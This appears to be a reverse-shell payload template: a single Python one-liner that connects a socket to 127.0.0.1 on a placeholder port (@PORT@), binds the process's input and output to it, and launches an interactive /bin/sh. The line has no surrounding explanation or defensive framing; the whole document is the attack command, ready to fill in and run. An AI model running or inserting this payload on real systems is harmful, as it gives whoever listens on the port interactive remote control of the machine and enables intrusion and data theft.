python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",@PORT@));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])'
